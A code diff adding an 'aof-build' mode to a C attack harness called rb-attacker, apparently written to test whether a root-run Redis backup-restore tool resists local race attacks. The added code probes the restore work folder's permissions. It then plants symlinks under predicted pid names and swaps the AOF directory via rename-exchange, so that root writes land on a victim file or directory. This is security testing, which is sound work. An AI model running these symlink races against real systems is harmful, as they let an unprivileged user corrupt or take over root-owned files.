@@ -39,6 +39,25 @@
  *       Each time Redis renames a fresh dump.rdb into place (IN_MOVED_TO),
  *       replace it at once (rename of a prepared symlink) with a symlink to
  *       TARGET.
+ *
+ *   aof-build READY DATA plant|symlink|entry VICTIM_DIR VICTIM_FILE
+ *       Poll the data dir for restore's work folder (redis-backup-restore-*)
+ *       and its aof/ (where the private server rebuilds the AOF while Redis
+ *       still runs), and get into aof/ the moment it is ours. There, probe
+ *       what the work folder gives away ("forbidden ...: refused" or
+ *       "forbidden ...: ALLOWED", one line each: listing the work folder,
+ *       reading its journal and log, writing, truncating, chmod/chown or
+ *       linking the staged RDB through its hard link in aof/; and
+ *       "by design ..." for reading the staged RDB through the group), then
+ *         plant:   keep temp-rewriteaof-<pid>.aof and -bg-<pid>.aof symlinks
+ *                  to VICTIM_FILE planted in aof/ for the next 1000 pids;
+ *         symlink: once aof/appendonlydir has its manifest, make
+ *                  aof/appendonly.aof a symlink to VICTIM_FILE and exchange
+ *                  appendonlydir for a symlink to VICTIM_DIR;
+ *         entry:   the same moment, exchange it for a directory of ours with
+ *                  copies of its files and appendonly.aof.9.incr.aof, a
+ *                  symlink to VICTIM_FILE.
+ *       Then say what became of aof/ (appendonlydir moved out, aof/ gone).
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -388,6 +407,274 @@ static int swap_dump(char **a)
 
 /* ------------------------------------------------------------------------ */
 
+/* A move that must be refused: say which, and how. */
+static void forbidden(const char *what, int ok)
+{
+    if (ok)
+        say("forbidden %s: ALLOWED", what);
+    else
+        say("forbidden %s: refused (%s)", what, strerror(errno));
+}
+
+/* Poll the data dir for the newest work folder; 0 when there is none. */
+static int find_work(char *work, size_t size)
+{
+    DIR *d = opendir(".");
+    if (!d)
+        die("opendir the data dir");
+    int found = 0;
+    struct dirent *de;
+    while ((de = readdir(d)) != NULL) {
+        if (!starts_with(de->d_name, WORK_PREFIX) || strcmp(de->d_name, work) <= 0)
+            continue;
+        snprintf(work, size, "%s", de->d_name);
+        found = 1;
+    }
+    closedir(d);
+    return found;
+}
+
+/* The work folder's own files, root's 0600: not even readable. */
+static void probe_root_files(const char *work)
+{
+    char path[PATH_MAX];
+    const char *root_only[] = {"journal", "private-redis.pid", "private-redis.log"};
+    for (size_t i = 0; i < sizeof root_only / sizeof root_only[0]; i++) {
+        snprintf(path, sizeof path, "%s/%s", work, root_only[i]);
+        int fd = open(path, O_RDONLY | O_CLOEXEC);
+        char what[PATH_MAX + 32];
+        snprintf(what, sizeof what, "read %s", root_only[i]);
+        forbidden(what, fd >= 0);
+        if (fd >= 0)
+            close(fd);
+    }
+}
+
+static void probe_work_folder(const char *work, int aof)
+{
+    char path[PATH_MAX];
+    DIR *d = opendir(work);
+    forbidden("list the work folder", d != NULL);
+    if (d)
+        closedir(d);
+    probe_root_files(work);
+    snprintf(path, sizeof path, "%s/incoming.rdb", work);
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0) {
+        say("by design read incoming.rdb: refused (%s)", strerror(errno));
+    } else {
+        struct stat st;
+        char head[9] = "";
+        long long total = 0;
+        char buf[64 * 1024];
+        ssize_t n;
+        fstat(fd, &st);
+        while ((n = read(fd, buf, sizeof buf)) > 0) {
+            if (total == 0)
+                memcpy(head, buf, n < 8 ? n : 8);
+            total += n;
+        }
+        close(fd);
+        for (int i = 0; i < 8; i++)
+            if (head[i] < 32 || head[i] > 126)
+                head[i] = '.';
+        say("by design read incoming.rdb (uid %d gid %d mode %04o nlink %d): %lld bytes, starting %s",
+            (int)st.st_uid, (int)st.st_gid, (int)(st.st_mode & 07777), (int)st.st_nlink, total, head);
+    }
+    fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+    forbidden("open incoming.rdb for writing", fd >= 0);
+    if (fd >= 0)
+        close(fd);
+    /* The staged RDB's hard link in aof/: everything in aof/ that is not ours. */
+    DIR *a = fdopendir(dup(aof));
+    if (!a)
+        die("fdopendir aof/");
+    struct dirent *de;
+    while ((de = readdir(a)) != NULL) {
+        struct stat st;
+        if (fstatat(aof, de->d_name, &st, AT_SYMLINK_NOFOLLOW) != 0 || !S_ISREG(st.st_mode))
+            continue;
+        say("aof/ holds %s (uid %d gid %d mode %04o nlink %d)", de->d_name, (int)st.st_uid, (int)st.st_gid,
+            (int)(st.st_mode & 07777), (int)st.st_nlink);
+        if (st.st_uid == getuid())
+            continue;
+        char what[NAME_MAX + 64];
+        snprintf(what, sizeof what, "open aof/%s read-write", de->d_name);
+        fd = openat(aof, de->d_name, O_RDWR | O_CLOEXEC);
+        forbidden(what, fd >= 0);
+        if (fd >= 0)
+            close(fd);
+        snprintf(what, sizeof what, "open aof/%s with O_TRUNC", de->d_name);
+        fd = openat(aof, de->d_name, O_WRONLY | O_TRUNC | O_CLOEXEC);
+        forbidden(what, fd >= 0);
+        if (fd >= 0)
+            close(fd);
+        fd = openat(aof, de->d_name, O_RDONLY | O_CLOEXEC);
+        if (fd >= 0) {
+            snprintf(what, sizeof what, "fchmod aof/%s 0666", de->d_name);
+            forbidden(what, fchmod(fd, 0666) == 0);
+            snprintf(what, sizeof what, "fchown aof/%s to us", de->d_name);
+            forbidden(what, fchown(fd, getuid(), getgid()) == 0);
+            close(fd);
+        }
+        snprintf(what, sizeof what, "hard-link aof/%s", de->d_name);
+        int linked = linkat(aof, de->d_name, aof, ".our-link", 0) == 0;
+        forbidden(what, linked);
+        if (linked)
+            unlinkat(aof, ".our-link", 0);
+    }
+    closedir(a);
+}
+
+static int aof_build(char **a)
+{
+    const char *variant = a[1], *victim_dir = a[2], *victim_file = a[3];
+    if (strcmp(variant, "plant") != 0 && strcmp(variant, "symlink") != 0 && strcmp(variant, "entry") != 0) {
+        say("error: unknown aof-build variant %s", variant);
+        return 2;
+    }
+    in_dir(a[0]);
+    char work[NAME_MAX + 1] = "";
+    /* Any folder there already is an old one: only a newer name counts. */
+    find_work(work, sizeof work);
+    char old[NAME_MAX + 1];
+    snprintf(old, sizeof old, "%s", work);
+    armed(a[-1]);
+    long polls = 0;
+    while (!find_work(work, sizeof work) || strcmp(work, old) == 0)
+        usleep(100);
+    say("restore created its work folder %s", work);
+    char path[PATH_MAX];
+    snprintf(path, sizeof path, "%s/aof", work);
+    int aof;
+    for (;;) {
+        polls++;
+        aof = open(path, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
+        if (aof >= 0) {
+            struct stat st;
+            if (fstat(aof, &st) == 0 && st.st_uid == getuid())
+                break;
+            close(aof);
+        }
+        if (polls % 200000 == 0)
+            say("still not in %s after %ld polls (%s)", path, polls, strerror(errno));
+        usleep(50);
+    }
+    say("entered %s, ours, after %ld polls", path, polls);
+    probe_work_folder(work, aof);
+
+    if (strcmp(variant, "plant") == 0) {
+        long pid_max = read_long("/proc/sys/kernel/pid_max");
+        long last = read_long("/proc/sys/kernel/ns_last_pid");
+        long long u_last = 0, u_next = 1;
+        long next = last + 1 >= pid_max ? PID_WRAP_TO : last + 1;
+        long planted = 0, rounds = 0;
+        int seen_dir = 0;
+        for (;;) {
+            while (u_next <= u_last + AHEAD) {
+                char name[64];
+                snprintf(name, sizeof name, "temp-rewriteaof-%ld.aof", next);
+                if (symlinkat(victim_file, aof, name) == 0)
+                    planted++;
+                snprintf(name, sizeof name, "temp-rewriteaof-bg-%ld.aof", next);
+                if (symlinkat(victim_file, aof, name) == 0)
+                    planted++;
+                next = next + 1 >= pid_max ? PID_WRAP_TO : next + 1;
+                u_next++;
+            }
+            if (rounds++ == 0)
+                say("planted %ld symlinks in aof/ from pid %ld on", planted, last + 1);
+            struct stat st;
+            if (!seen_dir && fstatat(aof, AOF_DIR, &st, AT_SYMLINK_NOFOLLOW) == 0) {
+                seen_dir = 1;
+                say("aof/%s appeared (%ld symlinks planted so far)", AOF_DIR, planted);
+                probe_root_files(work);
+            }
+            if (fstat(aof, &st) == 0 && st.st_nlink == 0) {
+                say("aof/ was removed (%ld symlinks planted in all)", planted);
+                idle_forever();
+            }
+            usleep(200);
+            long now = read_long("/proc/sys/kernel/ns_last_pid");
+            long delta = now - last;
+            if (delta < 0)
+                delta += pid_max - PID_WRAP_TO;
+            u_last += delta;
+            last = now;
+        }
+    }
+
+    polls = 0;
+    while (faccessat(aof, AOF_DIR "/" AOF_MANIFEST, F_OK, 0) != 0) {
+        struct stat st;
+        if (fstat(aof, &st) == 0 && st.st_nlink == 0) {
+            say("aof/ was removed before any manifest appeared");
+            idle_forever();
+        }
+        polls++;
+        usleep(200);
+    }
+    say("aof/%s/%s is written (after %ld polls)", AOF_DIR, AOF_MANIFEST, polls);
+    probe_root_files(work);
+    if (strcmp(variant, "symlink") == 0) {
+        if (symlinkat(victim_file, aof, ".aof-file-link") != 0)
+            die("symlink .aof-file-link");
+        if (renameat(aof, ".aof-file-link", aof, "appendonly.aof") != 0)
+            die("rename onto appendonly.aof");
+        if (symlinkat(victim_dir, aof, ".aof-dir-link") != 0)
+            die("symlink .aof-dir-link");
+        if (renameat2(aof, ".aof-dir-link", aof, AOF_DIR, RENAME_EXCHANGE) != 0)
+            die("exchange " AOF_DIR);
+        say("swapped: aof/%s -> %s, aof/appendonly.aof -> %s", AOF_DIR, victim_dir, victim_file);
+    } else {
+        if (mkdirat(aof, ".aof-copy", 0755) != 0)
+            die("mkdir .aof-copy");
+        int dir = openat(aof, AOF_DIR, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+        DIR *d = dir < 0 ? NULL : fdopendir(dir);
+        if (!d)
+            die(AOF_DIR);
+        struct dirent *de;
+        while ((de = readdir(d)) != NULL) {
+            char from[2 * PATH_MAX], to[2 * PATH_MAX];
+            struct stat st;
+            if (fstatat(dir, de->d_name, &st, AT_SYMLINK_NOFOLLOW) != 0 || !S_ISREG(st.st_mode))
+                continue;
+            snprintf(from, sizeof from, "%s/%s/%s", path, AOF_DIR, de->d_name);
+            snprintf(to, sizeof to, "%s/.aof-copy/%s", path, de->d_name);
+            copy_file(from, to);
+            say("copied %s", de->d_name);
+        }
+        closedir(d);
+        snprintf(path, sizeof path, "%s/aof/.aof-copy/appendonly.aof.9.incr.aof", work);
+        symlink_or_die(victim_file, path);
+        if (renameat2(aof, ".aof-copy", aof, AOF_DIR, RENAME_EXCHANGE) != 0)
+            die("exchange " AOF_DIR);
+        say("swapped: aof/%s is ours, with appendonly.aof.9.incr.aof -> %s", AOF_DIR, victim_file);
+    }
+    /* What root does with it next. */
+    for (;;) {
+        struct stat st;
+        if (fstat(aof, &st) == 0 && st.st_nlink == 0) {
+            say("aof/ was removed");
+            break;
+        }
+        if (fstatat(aof, AOF_DIR, &st, AT_SYMLINK_NOFOLLOW) != 0) {
+            struct stat placed;
+            if (lstat(AOF_DIR, &placed) == 0)
+                say("aof/%s was moved out; the data dir's %s is now a %s", AOF_DIR, AOF_DIR,
+                    S_ISLNK(placed.st_mode) ? "symlink (ours)" : S_ISDIR(placed.st_mode) ? "directory" : "file");
+            else
+                say("aof/%s was moved out (not to the data dir)", AOF_DIR);
+            break;
+        }
+        usleep(500);
+    }
+    idle_forever();
+    return 0;
+}
+
+/* ------------------------------------------------------------------------ */
+
 int main(int argc, char **argv)
 {
     setvbuf(stdout, NULL, _IOLBF, 0);
@@ -404,6 +691,7 @@ int main(int argc, char **argv)
         {"aof-dir", 4, aof_dir},
         {"plant-rewrite", 2, plant_rewrite},
         {"swap-dump", 2, swap_dump},
+        {"aof-build", 4, aof_build},
     };
     for (size_t i = 0; argc >= 3 && i < sizeof modes / sizeof modes[0]; i++) {
         if (strcmp(argv[1], modes[i].name) != 0)
@@ -415,6 +703,6 @@ int main(int argc, char **argv)
         /* argv[2] is READY, found as a[-1] by the modes. */
         return modes[i].run(argv + 3);
     }
-    fprintf(stderr, "usage: rb-attacker swap-workdir|aof-dir|plant-rewrite|swap-dump READY DATA_DIR ARGS...\n");
+    fprintf(stderr, "usage: rb-attacker swap-workdir|aof-dir|plant-rewrite|swap-dump|aof-build READY DATA_DIR ARGS...\n");
     return 2;
 }
